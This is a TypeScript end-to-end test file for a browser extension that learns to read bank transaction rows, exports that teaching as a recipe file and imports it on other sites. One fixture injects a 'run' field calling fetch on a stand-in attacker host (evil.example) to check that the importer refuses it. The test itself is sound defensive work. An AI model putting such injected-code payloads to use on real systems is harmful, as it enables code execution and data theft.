import { expect } from 'vitest';
import type { DrivenPage } from '../browsers/index.ts';
import { poll } from '../browsers/index.ts';
import type { PageServer } from '../content/serve-pages.ts';
import { expectedNovember, expectedOctober, serveQuayside } from '../quayside.ts';
import { story, type Stage } from '../story.ts';
import type { Tidemark, Visit } from '../tidemark.ts';

const says = (page: DrivenPage, words: RegExp): Promise<string> =>
  poll(async () => (await page.painted()).find((line) => words.test(line)), { what: `the words ${words}` });

const rowsIn = async (tidemark: Tidemark): Promise<unknown[]> =>
  (await tidemark.readBack()).flatMap(({ transactions }) => transactions.map(({ date, amountMinor, description }) => [date, amountMinor, description]));

/** Presses what stands on the overlay, where it stands by then: a panel that grows takes its buttons along. */
const press = (page: DrivenPage, name: string, then: RegExp): Promise<true> =>
  poll(
    async () => {
      const lines = await page.painted();
      if (lines.some((line) => then.test(line))) return true;
      // An earlier press may take it away only now.
      if (lines.includes(name)) await Promise.allSettled([page.pressPainted(name, 500)]);
      return false;
    },
    { what: `the words ${then} after pressing ${name}` },
  );

/** Points at the fields of one row, and at what marks money in. */
async function pointOut(page: DrivenPage): Promise<void> {
  await says(page, /Point at the date/);
  await page.pointAt('.entry:nth-child(2) .when');
  await says(page, /Point at what that row was for/);
  await page.pointAt('.entry:nth-child(2) .what');
  await says(page, /Point at the amount/);
  await page.pointAt('.entry:nth-child(2) .pounds');
  await says(page, /Nothing tells money in from money out/);
  await press(page, 'Some rows have a mark', /Point at the sign or arrow/);
  await page.pointAt('.entry:nth-child(3) .flow');
  await says(page, /^−£61\.20/);
}

/** Opens the page, and has it taught as a person does: from the popup. */
async function openTeaching({ tidemark }: Stage, url: string): Promise<Visit> {
  await tidemark.watch(url);
  const visit = await tidemark.visit(url);
  expect(await visit.status()).toMatchObject({ outcome: 'unrecognised' });
  const popup = await tidemark.browser.openExtensionPage(`popup.html?tab=${visit.tabId}`);
  await popup.click({ role: 'button', name: 'Teach this page' });
  await poll(async () => (await visit.page.painted()).includes('Teach this page'), { what: 'the overlay' });
  await visit.page.bringToFront();
  return visit;
}

async function teachBothMonths(stage: Stage, bank: PageServer): Promise<Visit> {
  const visit = await openTeaching(stage, bank.urlOf('quayside', '/accounts/everyday/november'));
  const { page } = visit;
  await pointOut(page);
  await press(page, 'Looks right', /same rows/);
  await page.goto(bank.urlOf('quayside', '/accounts/everyday/october'));
  await says(page, /4 other rows read/);
  await page.pressPainted('Save');
  await visit.stored();
  return visit;
}

async function withBank(tell: (bank: PageServer) => Promise<void>): Promise<void> {
  const bank = await serveQuayside();
  try {
    await tell(bank);
  } finally {
    await bank.close();
  }
}

/** Opens the details of a site on the Sites page. */
async function openSite(tidemark: Tidemark, site: string): Promise<DrivenPage> {
  const dashboard = await tidemark.browser.openExtensionPage('options.html#/sites');
  await dashboard.click({ role: 'button', name: site });
  await dashboard.waitFor(() => document.body.textContent.includes('What you taught'), { what: 'what was taught' });
  return dashboard;
}

/** As if its user had chosen a file. */
const chooseFile = (page: DrivenPage, text: string): Promise<unknown> =>
  page.waitFor(
    (content) => {
      const input = document.querySelector<HTMLInputElement>('input[type=file][accept=".json"]');
      if (input === null) return false;
      const chosen = new DataTransfer();
      chosen.items.add(new File([content], 'recipe.json'));
      input.files = chosen.files;
      input.dispatchEvent(new Event('change', { bubbles: true }));
      return true;
    },
    { what: 'the file' },
    text,
  );

story('a page that nobody can read is taught by its user, and read from then on', (stage) =>
  withBank(async (bank) => {
    const { tidemark } = stage;
    const { page } = await teachBothMonths(stage, bank);
    expect(await rowsIn(tidemark)).toEqual(expectedOctober);
    await page.goto(bank.urlOf('quayside', '/accounts/everyday/november'));
    await poll(async () => (await rowsIn(tidemark)).length === 10, { what: 'both months' });
    expect(await rowsIn(tidemark)).toEqual([...expectedNovember, ...expectedOctober]);
    // The overlay is gone, and with it all that it put into the page.
    expect((await page.painted()).includes('Teach this page')).toBe(false);
  }));

story('what was taught goes into a file without anything of anybody’s, and into another site after a look', (stage) =>
  withBank(async (bank) => {
    const { tidemark } = stage;
    await teachBothMonths(stage, bank);
    await tidemark.finishOnboarding();
    const other = bank.urlOf('harbour', '/accounts/everyday/november');
    await tidemark.watch(other);
    const dashboard = await openSite(tidemark, 'quayside.localhost');
    await dashboard.click({ role: 'button', name: 'Save as a file' });
    const name = await dashboard.waitFor(() => /Saved as (\S+\.json)/.exec(document.body.textContent)?.[1], { what: 'the name of the file' });
    const file = await tidemark.browser.savedFile(name);
    // Its own random number may hold any digits.
    const said = file.replace(/"id": "[^"]*"/, '');
    for (const word of ['Tidal', 'Power', 'Everyday', '4471', 'Nov', '61']) expect(said).not.toContain(word);
    await dashboard.close();

    const again = await openSite(tidemark, 'harbour.localhost');
    await chooseFile(again, file);
    const shown = await again.waitFor(() => document.querySelector('dialog[open]')?.textContent, { what: 'the look at it' });
    expect(shown).toMatch(/taught on quayside\.localhost, which is another site/);
    expect(shown).toMatch(/cannot run anything/);
    expect(shown).toMatch(/div\.when/);
    await again.click({ role: 'button', name: 'Add' });
    await again.waitFor(() => document.body.textContent.includes('Added.'), { what: 'that it was added' });
    const visit = await tidemark.visit(other);
    await visit.stored();
    expect(await rowsIn(tidemark)).toEqual(expect.arrayContaining(expectedNovember));
  }));

story('a file that is no recipe, or more than one, is refused in words', (stage) =>
  withBank(async (bank) => {
    const { tidemark } = stage;
    await tidemark.watch(bank.urlOf('quayside', '/accounts/everyday/november'));
    await tidemark.finishOnboarding();
    const dashboard = await openSite(tidemark, 'quayside.localhost');
    const isRefused = async (text: string, why: string): Promise<void> => {
      await chooseFile(dashboard, text);
      await dashboard.waitFor((words) => [...document.querySelectorAll('[role=alert]')].some(({ textContent }) => textContent.includes(words) && textContent.includes('Nothing was added')), { what: why }, why);
    };
    const recipe = { format: 1, id: 'abcdefgh', version: 1, taughtOn: '2026-11-20', sites: ['https://bank.example/*'], paths: ['/accounts'], rows: [[{ tag: 'div' }]], fields: { date: [[{ kind: 'inside', steps: [] }]], description: [[{ kind: 'inside', steps: [] }]], amount: [[{ kind: 'inside', steps: [] }]] }, sign: 'signed' };
    await isRefused(JSON.stringify({ ...recipe, run: 'fetch("https://evil.example")' }), 'holds more than that');
    await isRefused(JSON.stringify({ ...recipe, format: 9 }), 'another version');
    await isRefused(' '.repeat(200_000), 'too large');
    expect(await dashboard.evaluate(() => document.querySelector('dialog[open]') === null)).toBe(true);
  }));

story('a row is pointed out with the keys alone, and Escape ends it without a trace', (stage) =>
  withBank(async (bank) => {
    const { page, tabId } = await openTeaching(stage, bank.urlOf('quayside', '/accounts/everyday/november'));
    await says(page, /Point at the date/);
    for (let at = 0; at < 30 && !(await page.painted()).includes('20 Nov 2026'); at += 1) await page.pressKey('ArrowRight');
    await page.pressKey('Enter');
    await says(page, /Point at what that row was for/);
    await page.pressKey('ArrowRight');
    await page.pressKey('Escape');
    await poll(async () => !(await page.painted()).includes('Teach this page'), { what: 'the end' });
    expect(await page.evaluate(() => document.documentElement.children.length)).toBeLessThanOrEqual(3);
    await page.goto(bank.urlOf('quayside', '/accounts/everyday/october'));
    await poll(async () => (await stage.tidemark.pageStatuses()).some((each) => each.tabId === tabId && each.isPast !== true), { what: 'the next page' });
    expect((await page.painted()).includes('Now another page')).toBe(false);
  }));

story('where the page asks for a password the overlay goes at once', (stage) =>
  withBank(async (bank) => {
    const { page } = await openTeaching(stage, bank.urlOf('quayside', '/accounts/everyday/november'));
    await says(page, /Point at the date/);
    await page.evaluate(() => {
      const field = document.createElement('input');
      field.type = 'password';
      document.body.append(field);
    });
    await poll(async () => !(await page.painted()).includes('Teach this page'), { what: 'the end' });
  }));
